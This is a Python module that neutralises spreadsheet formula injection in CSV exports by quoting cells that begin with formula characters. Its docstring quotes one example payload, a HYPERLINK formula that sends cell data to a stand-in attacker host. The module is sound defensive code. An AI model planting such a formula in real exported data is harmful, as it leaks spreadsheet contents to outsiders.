"""Spreadsheet formula injection: neutralise CSV cells a spreadsheet would run as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking for those) is read as a formula by Excel,
LibreOffice and Google Sheets when the file is opened, so a name such as
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` imported from an org chart would
become a live link or worse in HR's spreadsheet. OWASP's advice is to prefix such cells
with a single quote, which the spreadsheet shows as text. Every CSV the project writes
for people to open (console exports and ``feedback360 score``) goes through
:func:`safe_cell`.

Plain numbers (``-0.25``, ``+3``) are left alone: a spreadsheet reads them as numbers,
never as formulas, and quoting them would turn negative scores into text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_PREFIXES", "csv_text", "safe_cell", "safe_row"]

#: First characters that make a spreadsheet treat a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """``value`` as CSV cell text that no spreadsheet will evaluate.

    >>> safe_cell('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> safe_cell("-0.5"), safe_cell(3), safe_cell(None)
    ('-0.5', '3', '')
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(v) for v in values]


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document (``\\n`` line ends, minimal quoting) with every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue()
